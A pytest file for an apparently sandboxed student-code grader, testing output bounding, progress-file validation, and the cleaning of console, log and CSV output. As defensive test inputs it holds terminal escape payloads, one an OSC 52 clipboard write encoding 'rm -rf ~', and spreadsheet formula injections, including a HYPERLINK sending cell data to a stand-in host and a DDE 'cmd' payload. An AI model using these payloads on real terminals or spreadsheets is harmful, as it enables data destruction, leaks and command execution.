"""What a child prints or leaves is data: its output kept bounded, progress only from the
grader's own channel, and nothing of it (or of a student's names) shown or stored raw."""

from __future__ import annotations

import csv
import json
import os
import re
import threading
import time
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from grader import cli, codec
from grader.console import ProgressDisplay, results_table
from grader.errors import ChildOutputError, ErrorKind
from grader.pipeline import liveprogress, training
from grader.pipeline.summary import write_summary_csv
from grader.protocol import ErrorReport, History, TrainFacts, TrainReport
from grader.records import Result, read_result
from grader.safetext import safe_cell
from grader.sandbox import (
    LOG_TAIL_BYTES,
    RLIMITS,
    Isolation,
    Limits,
    Outcome,
    Sandbox,
    jobs,
    output,
)
from grader.sandbox.childio import read_child_json
from grader.worker.budget import PROGRESS

RESULTS = Path(__file__).resolve().parent / "fixtures" / "results"
LIMITS = Limits(wall_seconds=120, memory_bytes=2 * 2**30)
# what a terminal would obey: ESC/CSI/OSC and every C0/C1 control but the newline
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORGED = [  # what a student prints to drive the instructor's terminal or forge a line
    "\rGRADER-PROGRESS epoch 1/1\r[zz-honest] scratch: trained: ok FORGED",
    "GRADER-PROGRESS \x1b]52;c;cm0gLXJmIH4K\x07",  # OSC 52: the clipboard
    "GRADER-PROGRESS \x1b[2J\x1b[H screen cleared",
    "GRADER-PROGRESS \x1b]0;pwned-title\x07",
]


@pytest.fixture
def box() -> Iterator[Sandbox]:
    with Sandbox(Isolation(RLIMITS)) as opened:
        yield opened


def _child(box: Sandbox, statement: str, job: jobs.Job) -> Any:
    """`python -m timeit STATEMENT` in `job`'s output folder, at the rlimits level."""
    return box.run(
        "timeit", statement, mounts=job.mounts, workdir=job.outputs, limits=LIMITS, slot=0
    )


@pytest.fixture
def job(box: Sandbox, tmp_path: Path) -> jobs.Job:
    return jobs.new_job(tmp_path, "t", box, slot=0)


# --- the bounded tail ---------------------------------------------------------------------


def test_a_long_line_is_cut_and_the_tail_bounded() -> None:
    tail = output.Tail(tail_bytes=200, line_bytes=10)
    for piece in (b"abc", b"defghijklmnop", b"q\nshort\n", b"x" * 1000):
        tail.feed(piece)
    tail.close()
    lines = tail.text().splitlines()
    assert lines[0] == "abcdefghij [... 7 more bytes of this line not kept]"
    assert lines[1] == "short"
    assert lines[2] == "xxxxxxxxxx [... 990 more bytes of this line not kept]"
    assert tail.total == 3 + 13 + 8 + 1000


def test_only_the_last_lines_are_kept() -> None:
    tail = output.Tail(tail_bytes=40, line_bytes=100)
    tail.feed(b"".join(b"line %d\n" % i for i in range(1000)))
    assert tail.size <= 40
    assert tail.text().splitlines()[-1] == "line 999"
    assert "line 1\n" not in tail.text()


def test_200_mb_without_a_newline_keep_the_grader_flat(box: Sandbox, job: jobs.Job) -> None:
    """A real child writes 200 MB in one line; the grader allocates a few chunks' worth.
    (Reading line by line buffered the whole line: 200 MB here, 2.17 GB for 1 GiB.)"""
    statement = "import os; [os.write(1, b'y' * 2**20) for _ in range(200)]; os._exit(0)"
    tracemalloc.start()
    try:
        outcome = _child(box, statement, job)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert outcome.returncode == 0
    assert peak < 4 * 2**20, f"{peak:,} bytes allocated while draining"
    assert outcome.log_tail.startswith("y" * output.LINE_MAX_BYTES + " [... ")
    assert f"{200 * 2**20 - output.LINE_MAX_BYTES:,} more bytes" in outcome.log_tail
    assert len(outcome.log_tail) <= LOG_TAIL_BYTES


# --- progress: only from the progress file, checked and worded by the grader --------------


def _report(epochs: int, planned: int) -> str:
    history = History(*([0.5] * epochs,) * 4)  # type: ignore[arg-type]
    facts = TrainFacts(history, 32, "adam", "categorical_crossentropy", "one_hot", 10,
                       planned_epochs=planned)  # fmt: skip
    return json.dumps(codec.to_json(TrainReport(trained=facts)))


def _write_progress(folder: Path, text: str) -> None:
    tmp = folder / ".progress.tmp"
    tmp.write_text(text)
    os.replace(tmp, folder / PROGRESS)


def test_forged_lines_stay_log_text_and_epochs_come_from_the_file(
    box: Sandbox, job: jobs.Job
) -> None:
    """A real child prints forged progress lines (carriage return, OSC 52, screen clear,
    window title) and saves its epochs as the worker does: only the epochs are shown."""
    saves = [f"open('.t','w').write({_report(n, 3)!r}); os.replace('.t', {PROGRESS!r})"
             for n in (1, 2, 3)]  # fmt: skip
    prints = [f"print({line!r}, flush=True)" for line in FORGED]
    steps = [*prints, *[f"{save}; time.sleep(1)" for save in saves], "time.sleep(1.5)"]
    statement = "import os, time; " + "; ".join(steps) + "; os._exit(0)"
    shown: list[str] = []
    with liveprogress.epochs_shown(job, 5, shown.append):
        outcome = _child(box, statement, job)
    assert outcome.returncode == 0, outcome.log_tail
    assert shown[-1] == "epoch 3/3"
    assert shown == sorted(set(shown)) and set(shown) <= {"epoch 1/3", "epoch 2/3", "epoch 3/3"}
    assert all(line in outcome.log_tail for line in FORGED)  # the student's log, as printed
    assert "GRADER-PROGRESS" in jobs.log_tail(outcome)  # log text, not left out as chatter


@pytest.mark.parametrize(
    "content",
    [
        _report(4, 3),  # more epochs than planned
        _report(2, 9),  # planned beyond the task's max_epochs (5)
        _report(6, 6),
        '{"trained": null}',
        "[" * 100_000,  # nested beyond the JSON parser's recursion limit
        "not json \x1b]0;pwned\x07",
        json.dumps({"trained": {"history": "\x1b[2J"}}),
    ],
    ids=["over-planned", "over-max", "over-both", "null", "deep", "text", "bad-history"],
)
def test_an_unusable_progress_file_shows_nothing(tmp_path: Path, content: str) -> None:
    job = jobs.Job(tmp_path, None, 0)  # type: ignore[arg-type]
    job.outputs.mkdir()
    _write_progress(job.outputs, content)
    assert liveprogress.epoch_count(job, 5) is None


def test_a_linked_or_special_progress_file_is_not_read(tmp_path: Path) -> None:
    job = jobs.Job(tmp_path, None, 0)  # type: ignore[arg-type]
    job.outputs.mkdir()
    (tmp_path / "elsewhere.json").write_text(_report(1, 1))
    (job.outputs / PROGRESS).symlink_to(tmp_path / "elsewhere.json")
    assert liveprogress.epoch_count(job, 5) is None
    (job.outputs / PROGRESS).unlink()
    os.mkfifo(job.outputs / PROGRESS)  # opened without waiting for a writer, then refused
    assert liveprogress.epoch_count(job, 5) is None


def test_deep_json_from_a_child_is_an_output_error(tmp_path: Path) -> None:
    (tmp_path / "train.json").write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(ChildOutputError, match="nested too deeply"):
        read_child_json(tmp_path / "train.json")


def test_a_flood_of_progress_is_shown_at_most_once_an_epoch_and_poll(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A child rewriting its progress file as fast as it can, counts up and down."""
    monkeypatch.setattr(liveprogress, "POLL_SECONDS", 0.02)
    job = jobs.Job(tmp_path, None, 0)  # type: ignore[arg-type]
    job.outputs.mkdir()
    reports = [_report(n, 8) for n in (1, 2, 3, 2, 1, 8, 5)]
    stop = threading.Event()

    def flood() -> None:
        i = 0
        while not stop.is_set():
            _write_progress(job.outputs, reports[i % len(reports)])
            i += 1

    shown: list[str] = []
    writer = threading.Thread(target=flood)
    began = time.monotonic()
    with liveprogress.epochs_shown(job, 8, shown.append):
        writer.start()
        time.sleep(0.5)
        stop.set()
        writer.join()
    polls = (time.monotonic() - began) / liveprogress.POLL_SECONDS + 1
    counts = [int(m[1]) for m in map(re.compile(r"epoch (\d)/8").fullmatch, shown) if m]
    assert len(counts) == len(shown) and counts == sorted(set(counts))  # grows, never repeats
    assert len(shown) <= min(8, polls)


# --- what the console and the CSV show ----------------------------------------------------


def _results() -> list[Result]:
    return [read_result(p) for p in sorted(RESULTS.glob("*.json"))]


def _forged_result() -> Result:
    """A result whose child forged its error kind and whose folder name carries escapes."""
    base = _results()[0]
    report = ErrorReport("\x1b]0;pwned\x07all_good", "\x1b[2Jno_such", {"error": "\x1b]52;c;x\x07"})
    kind, message = training.child_failure(report)
    task = base.tasks["scratch"].failed(kind, message)
    name = "zz-honest\x1b]0;pwned\x07\udcfe"  # a folder name: escapes and a non-UTF-8 byte
    return replace(base, student=name, tasks={**base.tasks, "scratch": task})


def test_a_forged_error_kind_becomes_grader_error_end_to_end() -> None:
    forged = _forged_result()
    assert forged.tasks["scratch"].error_kind is ErrorKind.GRADER_ERROR
    raw = forged.to_json()
    raw["tasks"]["scratch"]["error_kind"] = "\x1b]0;pwned\x07all_good"  # a doctored file
    assert Result.from_json(raw).tasks["scratch"].error_kind is ErrorKind.GRADER_ERROR


def test_the_final_table_and_live_display_show_no_control_characters() -> None:
    results = [*_results(), _forged_result()]
    table = results_table(results, ["scratch", "transfer", "cifar10"])
    table.encode("utf-8")  # a strict UTF-8 terminal takes it (no lone surrogate)
    assert not CONTROL.search(table)
    assert "pwned" not in table and "all_good" not in table and "grader_error" in table
    assert "zz-honest\ufffd\ufffd" in table  # not shown as (or in the row of) "zz-honest"
    out = StringIO()
    console = Console(file=out, record=True, force_terminal=False, width=200)
    display = ProgressDisplay(console=console, students=[r.student for r in results],
                              tasks=["scratch"])  # fmt: skip
    for line in FORGED:
        display(results[-1].student, "scratch", line)
    display.finish(results)
    console.print(display.render())
    shown = console.export_text()
    assert not CONTROL.search(shown) and "pwned" not in shown
    assert "grader_error" in shown


def test_plain_progress_lines_are_cleaned() -> None:
    stream = StringIO()
    display = ProgressDisplay(stream)
    for line in FORGED:
        display("zz\x1b[2J-evil\udcfe", "scratch", line)
    text = stream.getvalue()
    assert not CONTROL.search(text) and "zz\ufffd-evil\ufffd" in text
    assert len(text.splitlines()) == len(FORGED)  # a \r forges no line of its own


def test_an_internal_error_prints_a_clean_traceback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def crash(args: object) -> int:
        raise OSError("cannot read 'notes-\x1b]52;c;cm0K\x07\x1b[2J\udcff.txt'")

    monkeypatch.setitem(cli.COMMANDS, "doctor", crash)
    assert cli.main(["doctor"]) == cli.BUG
    err = capsys.readouterr().err
    assert "OSError" in err and not CONTROL.search(err)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "' =1+1"),
        ("\r\n@SUM(A1)", "' @SUM(A1)"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-2+3", "'-2+3"),
        ("Ana\x1b]0;x\x07 Peña\u202e", "Ana\ufffd Peña\ufffd"),
        ("notes-\udcff", "notes-\ufffd"),
        ("Carlos Ibáñez", "Carlos Ibáñez"),
    ],
)
def test_csv_cells_are_clean_and_never_formulas(name: str, cell: str) -> None:
    assert safe_cell(name) == cell


def test_summary_csv_with_hostile_names_is_written_and_safe(tmp_path: Path) -> None:
    forged = replace(_forged_result(), name="=2+5+cmd|' -C calc'!A0")
    write_summary_csv(tmp_path / "summary.csv", [forged], ["scratch"])
    raw = (tmp_path / "summary.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "summary.csv", encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["student"] == "zz-honest\ufffd\ufffd" and row["name"].startswith("'=2+5")
    assert row["scratch_status"] == "error"


def test_the_stored_log_tail_is_text_without_escapes() -> None:
    printed = "\n".join([*FORGED, "\x1b[31mred\x1b[0m\tend", "Traceback (most recent call last):"])
    tail = jobs.log_tail(Outcome(1, False, 1.0, printed))
    assert not CONTROL.search(tail)
    assert "red end" in tail and "Traceback (most recent call last):" in tail
    assert "GRADER-PROGRESS  screen cleared" in tail.splitlines()  # the student's own log text
